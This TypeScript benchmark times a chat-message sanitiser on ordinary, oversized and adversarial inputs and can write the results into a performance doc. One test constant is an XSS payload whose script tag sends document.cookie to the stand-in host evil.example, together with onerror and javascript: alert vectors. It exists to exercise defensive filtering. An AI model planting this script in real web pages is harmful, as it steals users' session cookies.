/**
 * What the inspection of one message costs: `node test/bench/messages.ts [--document]` prints microseconds for ordinary,
 * hostile and pathological messages, the last up to the size cap, or writes them into docs/performance.md. One process, no
 * network: this is the work of the rules alone.
 */
import { parseArgs } from 'node:util'
import { cleanMessage, compileRules, type MessageRules } from '../../src/messages/rules.ts'
import { cleanPacket } from '../../src/messages/socketio-packets.ts'
import { messagesConfig } from '../kit/message-rules.ts'
import { machine, table, writeSection } from './marked-section.ts'
import { filler } from './place.ts'
import { median } from './results.ts'

/** Measuring one case takes no longer. */
const CASE_MS = 400
const BATCHES = 9
const CAP_BYTES = 16 * 1024
const MICROS = 1000

type Clean = (rules: MessageRules, text: string) => { readonly outcome: string }

interface Case {
  readonly title: string
  readonly message: string
  readonly clean?: Clean
}

const config = messagesConfig({ maxSize: CAP_BYTES })

const json = (text: string): string => JSON.stringify({ text })

/** As many repetitions as fit under the cap once they stand in JSON. */
function capped(piece: string): string {
  const each = JSON.stringify(piece).length - 2
  return json(piece.repeat(Math.floor((CAP_BYTES - json('').length) / each)))
}

function deep(): string {
  const levels = 200
  return `{"text":"x","a":${'['.repeat(levels)}${']'.repeat(levels)}}`
}

const HOSTILE = `<script>fetch("//evil.example/?c="+document.cookie)</script><img src=x onerror=alert(1)><a href="javascript:alert(1)">${filler(60)}</a>`

const CASES: readonly Case[] = [
  { title: 'short, no markup', message: json('Hello, is my order on its way?') },
  {
    title: 'short, socket.io event',
    message: `42["message",${json('Hello, is my order on its way?')}]`,
    clean: cleanPacket,
  },
  { title: '1 KB, no markup', message: json(filler(1000)) },
  { title: '1 KB with 10 elements', message: json(`<b>${filler(93)}</b>`.repeat(10)) },
  { title: '1 KB, hostile', message: json(HOSTILE.repeat(6).slice(0, 1000)) },
  { title: 'cap, no markup', message: capped('a') },
  { title: 'cap, elements only', message: capped('<b></b>') },
  { title: 'cap, opened elements', message: capped('<b>') },
  { title: 'cap, half elements', message: capped('<a') },
  { title: 'cap, less-than signs', message: capped('<') },
  { title: 'cap, opened comments', message: capped('<!--') },
  { title: 'cap, opened scripts', message: capped('<script>') },
  { title: 'cap, attributes without end', message: json(`<a ${'b="c" '.repeat(1800)}`) },
  { title: 'cap, ampersands before an element', message: json(`${'&'.repeat(16_000)}<b>x</b>`) },
  { title: 'cap, words before an element', message: json(`${'a<R '.repeat(4000)}<b>x</b>`) },
  { title: 'cap, character references', message: capped('&lt;') },
  { title: 'cap, one element of many quotes', message: json(`<a b='${"'".repeat(16_000)}>`) },
  {
    title: 'cap, many members',
    message: `{${Array.from({ length: 1400 }, (_, i) => `"k${i}":${i}`).join()},"text":"x"}`,
  },
  { title: '1 KB, cards', message: json('4111 1111 1111 1111 cvv 123, '.repeat(35)) },
  { title: '1 KB, cards that overlap', message: json('4111 1111 1111 1111 1111 '.repeat(40)) },
  { title: '1 KB, cards between dashes', message: json('-4111111111111111-'.repeat(55)) },
  { title: '1 KB, digits in tags', message: json('<b>4</b>'.repeat(125)) },
  { title: '1 KB, JSON in JSON', message: json(`{"a":"${'\\u003cb>'.repeat(90)}"}`) },
  { title: 'cap, cards one after another', message: capped('4111111111111111 ') },
  { title: 'cap, half cards', message: capped('4111 ') },
  { title: 'cap, single digits', message: capped('1 ') },
  { title: 'cap, digits of another script', message: capped('٤') },
  { title: 'cap, JSON in JSON', message: json(`{"a":"${'\\u003cb>'.repeat(1300)}"}`) },
  { title: 'cap, circled digits', message: capped('①') },
  { title: 'nested 200 deep', message: deep() },
]

interface Found {
  readonly micros: number
  readonly outcome: string
}

/** Median microseconds of one call, over batches. */
function measure({ message, clean = cleanMessage }: Case, rules: MessageRules): Found {
  const { outcome } = clean(rules, message)
  let calls = 1
  let batch = timed(calls)
  const batchMs = CASE_MS / BATCHES
  while (batch < batchMs / 2) {
    calls *= 2
    batch = timed(calls)
  }
  const micros = Array.from({ length: BATCHES }, () => (timed(calls) / calls) * MICROS)
  return { micros: median(micros), outcome }

  function timed(count: number): number {
    const before = process.threadCpuUsage()
    for (let i = 0; i < count; i++) clean(rules, message)
    // Of the processor, not of the clock: other work on the machine is no cost of a message.
    const { user, system } = process.threadCpuUsage(before)
    return (user + system) / MICROS
  }
}

const { values } = parseArgs({ options: { document: { type: 'boolean', default: false } } })
const rules = compileRules(config)
const rows = CASES.map((each) => {
  const { micros, outcome } = measure(each, rules)
  const bytes = Buffer.byteLength(each.message)
  return [each.title, bytes.toLocaleString('en'), micros.toFixed(micros < 10 ? 2 : 0), outcome]
})
const text = table(['message', 'bytes', 'µs', 'outcome'], rows)
console.log(text)
if (values.document) writeSection('docs/performance.md', 'bench:messages', `${text}\n\n${machine()}.`)
